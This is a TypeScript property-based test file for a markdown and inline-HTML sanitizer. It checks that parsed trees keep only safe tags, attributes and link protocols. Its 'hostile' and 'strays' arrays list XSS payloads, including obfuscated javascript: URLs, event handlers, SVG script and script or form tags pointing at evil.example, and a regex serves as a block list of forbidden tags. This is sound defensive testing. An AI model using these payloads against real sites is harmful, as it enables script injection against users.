import fc from 'fast-check'
import type { Element, Root } from 'hast'
import { visit } from 'unist-util-visit'
import { describe, expect, it } from 'vitest'
import { parseInlineHtml, parseMarkdown } from './parse-markdown'
import { toPlainText } from './plain-text'

function elementsOf(tree: Root): Element[] {
  const found: Element[] = []
  visit(tree, 'element', (node) => void found.push(node))
  return found
}

const tagsOf = (tree: Root) => elementsOf(tree).map(({ tagName }) => tagName)
const first = (tree: Root, tag: string) => elementsOf(tree).find(({ tagName }) => tagName === tag)
const textOf = (markdown: string) => toPlainText(parseMarkdown(markdown))

const allowedProperties = new Set([
  ...['href', 'title', 'cite', 'src', 'alt', 'start', 'reversed', 'align', 'colSpan', 'rowSpan', 'scope'],
  ...['dateTime', 'open'],
])
const forbiddenTags =
  /^(script|style|iframe|object|embed|form|input|button|select|textarea|link|meta|base|svg|math|template|frame|frameset|video|audio)$/
const addresses = ['href', 'src', 'cite']

/** Everything in a tree that a page must never get, in words. */
function dangersIn(tree: Root): string[] {
  const dangers: string[] = []
  visit(tree, (node) => {
    if (!['root', 'element', 'text', 'comment'].includes(node.type))
      dangers.push(`a node of type ${node.type}`)
    if (node.type === 'comment') dangers.push('a comment')
    if (node.type !== 'element') return
    if (forbiddenTags.test(node.tagName)) dangers.push(`<${node.tagName}>`)
    for (const [name, value] of Object.entries(node.properties)) {
      if (!allowedProperties.has(name)) dangers.push(`${node.tagName} ${name}`)
      if (addresses.includes(name) && !isHarmless(String(value))) dangers.push(`${name} ${value}`)
    }
  })
  return dangers
}

/** Asks the parser that browsers use, which skips white space and control characters. */
function isHarmless(address: string): boolean {
  const base = 'https://example.com'
  if (!URL.canParse(address, base)) return true
  return ['http:', 'https:', 'mailto:', 'tel:'].includes(new URL(address, base).protocol)
}

/* Each takes no text along that is outside of it. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>let a = `</p>`</script>',
  '<style>p { background: url(javascript:alert(1)) }</style>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:alert(1)" onclick="alert(1)">a link</a>',
  '<a href=" jAvA&#x0A;scr&#9;ipt:alert(1)">a link</a>',
  '<a href="&#1;javascript:alert(1)">a link</a>',
  '<a href="vbscript:msgbox(1)">a link</a>',
  '[a link](javascript:alert(1))',
  '[a link](<JaVaScRiPt:alert(1)>)',
  '[a link](&#106;avascript:alert(1))',
  '[a link](data:text/html;base64,PHNjcmlwdD4=)',
  '![a picture](vbscript:x)',
  '<javascript:alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="a" value="b"><button>press</button></form>',
  '<p style="position:fixed" class="x" id="main" onmouseover=alert(1)>raw</p>',
  '<div style="x" class="y" id="z"><span class="a" style="b">wrapped</span></div>',
  '<base href="https://evil.example"><link rel="stylesheet" href="x"><meta http-equiv="refresh" content="0">',
  '<blockquote cite="javascript:alert(1)">quoted</blockquote>',
  '<details open ontoggle=alert(1)><summary>more</summary></details>',
  '<video src=x onerror=alert(1)></video>',
  '<!-- a comment -->',
  '<![CDATA[ data ]]>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE html>',
]
/* Left open or closed without having been opened. */
const strays = [
  ...['<script>', '<script src="//evil.example/x.js">', '<script', '</script>', '<style>', '</style>'],
  ...['<textarea>', '<title>', '<iframe>', '<noscript>', '<plaintext>', '<xmp>', '<template>', '<select>'],
  ...['<svg>', '<math>', '<button>', '<object>', '<form>', '<div>', '</div>', '</p>', '<b>', '<frameset>'],
  ...['<!--', '<?', '</ x', '<table>', '</body>', '</html>', '<a href="javascript:x">'],
]

const word = fc.constantFrom('valve', 'pump', 'Größe', 'don’t', '2.3', 'lathe', 'gear', 'naïve')
const words = fc.array(word, { minLength: 1, maxLength: 5 }).map((list) => list.join(' '))
const separator = fc.constantFrom(' ', '\n', '\n\n')

/** Ordinary words with fragments between them; knows which words there are. */
function mixed(fragments: string[], between: fc.Arbitrary<string>) {
  const piece = fc.tuple(between, fc.constantFrom(...fragments), between, words)
  return fc.tuple(words, fc.array(piece, { minLength: 1, maxLength: 6 })).map(([start, pieces]) => ({
    markdown: start + pieces.map((each) => each.join('')).join(''),
    expected: [start, ...pieces.map((each) => each[3])].join(' ').split(' '),
  }))
}

/** The words that are not to be found in a text in their order, of which there should be none. */
function lostFrom(text: string, expected: string[]): string[] {
  let from = 0
  return expected.filter((each) => {
    const at = text.indexOf(each, from)
    if (at >= 0) from = at + each.length
    return at < 0
  })
}

describe('parseMarkdown', () => {
  it('lets nothing dangerous through, at any place, and loses no ordinary word', () => {
    fc.assert(
      fc.property(mixed(hostile, separator), ({ markdown, expected }) => {
        const tree = parseMarkdown(markdown)
        expect(dangersIn(tree)).toEqual([])
        expect(lostFrom(toPlainText(tree), expected)).toEqual([])
      }),
    )
  })

  it('lets nothing dangerous through however fragments are broken up', () => {
    const broken = fc
      .tuple(fc.constantFrom(...hostile, ...strays), fc.nat(), fc.nat())
      .map(([fragment, a, b]) => fragment.slice(a % fragment.length).slice(0, 1 + (b % fragment.length)))
    const any = fc.oneof(
      broken,
      fc.constantFrom(...hostile, ...strays),
      words,
      fc.constantFrom('`', '"', "'", '\n'),
    )
    fc.assert(
      fc.property(fc.array(any, { maxLength: 12 }), (pieces) => {
        expect(dangersIn(parseMarkdown(pieces.join('')))).toEqual([])
        expect(dangersIn(parseInlineHtml(pieces.join('')))).toEqual([])
      }),
    )
  })

  it.each(strays)('after a stray %j the rest of the article stays', (stray) => {
    for (const markdown of [
      `One.\n\n${stray}\n\nTwo.\n\n## Three\n\nFour.`,
      `One. ${stray} Two.\n\n## Three\n\nFour.`,
      `One.\n\n${stray} Two.\n\n## Three\n\nFour.`,
      `## Three\n\nOne. Two.\n\n${stray} Four.`,
      `## Three\n\nOne. Two.\n\n${stray}\nFour.`,
    ]) {
      const tree = parseMarkdown(markdown)
      expect(lostFrom(toPlainText(tree), ['One.', 'Two.', 'Four.'])).toEqual([])
      expect(tagsOf(tree)).toContain('h2')
      expect(dangersIn(tree)).toEqual([])
    }
  })

  it('puts blocks alone at the top, each piece of loose text into a paragraph', () => {
    const blocks = /^(p|h[1-6]|ul|ol|dl|blockquote|pre|table|hr|figure|details)$/
    fc.assert(
      fc.property(mixed([...hostile, ...strays], separator), ({ markdown }) => {
        for (const node of parseMarkdown(markdown).children)
          expect(node.type === 'element' ? node.tagName : node.type).toMatch(blocks)
      }),
    )
  })

  it('unwraps what it does not know and keeps the text', () => {
    const tree = parseMarkdown('<center><font color="red">Red</font> words</center>')
    expect(tagsOf(tree)).toEqual(['p'])
    expect(toPlainText(tree)).toBe('Red words')
  })

  it('lets a heading inside wrappers count as the article’s', () => {
    const tree = parseMarkdown('<div><section><h2>Heading</h2>\n\nText\n\n</section></div>')
    expect(tree.children.map((node) => node.type === 'element' && node.tagName)).toEqual(['h2', 'p'])
  })

  it('reads tables', () => {
    const tree = parseMarkdown('| Part | Size |\n|---|---:|\n| Bolt | 8 mm |')
    expect(tagsOf(tree)).toEqual(['table', 'thead', 'tr', 'th', 'th', 'tbody', 'tr', 'td', 'td'])
    expect(
      elementsOf(tree).find(({ tagName, properties }) => tagName === 'td' && properties.align),
    ).toBeDefined()
  })

  it('reads paths with spaces', () => {
    const tree = parseMarkdown(
      '![A pump](/img/uploads/a pump (2).jpg "Title")\n\n[A sheet](/files/data sheet.pdf)',
    )
    expect(first(tree, 'img')?.properties).toEqual({
      src: '/img/uploads/a%20pump%20(2).jpg',
      alt: 'A pump',
      title: 'Title',
    })
    expect(first(tree, 'a')?.properties).toEqual({ href: '/files/data%20sheet.pdf' })
  })

  it('keeps safe addresses as they were written', () => {
    for (const address of [
      'https://example.com/a?b=c#d',
      '/insights/',
      '#part',
      'mailto:a@example.com',
      'tel:+1615',
    ])
      expect(first(parseMarkdown(`[link](${address})`), 'a')?.properties).toEqual({ href: address })
  })

  it('shows code as it was written', () => {
    const tree = parseMarkdown('Use `<script>`:\n\n```html\n<script>alert("a")</script>\n```')
    expect(toPlainText(tree)).toBe('Use <script>: <script>alert("a")</script>')
    expect(dangersIn(tree)).toEqual([])
  })

  it('keeps the lines of the markdown', () => {
    const tree = parseMarkdown('<script>\nlet a\n</script>\n\nOne.\n\n## Two')
    expect(first(tree, 'h2')?.position?.start.line).toBe(7)
  })

  it('reads headings and lists behind non-breaking spaces', () => {
    expect(tagsOf(parseMarkdown('\u00a0\u00a0##\u00a0One\n\n-\u00a0two'))).toEqual(['h2', 'ul', 'li'])
    expect(textOf('One.\n\u00a0\nTwo.')).toBe('One. Two.')
    expect(tagsOf(parseMarkdown('One.\n\u00a0\nTwo.'))).toEqual(['p', 'p'])
  })
})

describe('parseInlineHtml', () => {
  it('keeps emphasis and takes all else off', () => {
    const tree = parseInlineHtml(
      '<h1 class="x">Marketing <span style="color:red">for</span> <a href="/">us</a></h1>',
    )
    expect(tagsOf(tree)).toEqual(['span'])
    expect(elementsOf(tree).flatMap(({ properties }) => Object.keys(properties))).toEqual([])
    expect(toPlainText(tree)).toBe('Marketing for us')
  })

  it('takes text for text', () => {
    expect(toPlainText(parseInlineHtml('Sales & marketing: 1 < 2 &amp; *so* on'))).toBe(
      'Sales & marketing: 1 < 2 & *so* on',
    )
  })

  it('lets nothing dangerous through and loses no ordinary word', () => {
    fc.assert(
      fc.property(mixed(hostile, fc.constant(' ')), ({ markdown, expected }) => {
        const tree = parseInlineHtml(markdown)
        expect(dangersIn(tree)).toEqual([])
        expect(lostFrom(toPlainText(tree), expected)).toEqual([])
      }),
    )
  })

  it.each(strays)('after a stray %j the rest of the headline stays', (stray) => {
    const tree = parseInlineHtml(`One ${stray} two`)
    expect(lostFrom(toPlainText(tree), ['One', 'two'])).toEqual([])
    expect(dangersIn(tree)).toEqual([])
  })
})
